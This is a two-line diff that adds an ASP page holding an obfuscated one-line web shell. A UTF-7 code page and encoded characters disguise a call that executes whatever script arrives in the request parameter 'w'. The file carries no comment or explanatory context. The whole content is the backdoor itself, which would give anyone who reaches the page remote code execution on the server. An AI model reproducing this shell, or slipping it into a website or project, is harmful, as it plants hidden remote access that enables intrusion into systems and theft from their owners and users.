@@ -1,0 +1,2 @@
+<%@ CodePage=65000 %>
+<%+AEU-xecute(Request(+ACI-w+ACI))%>
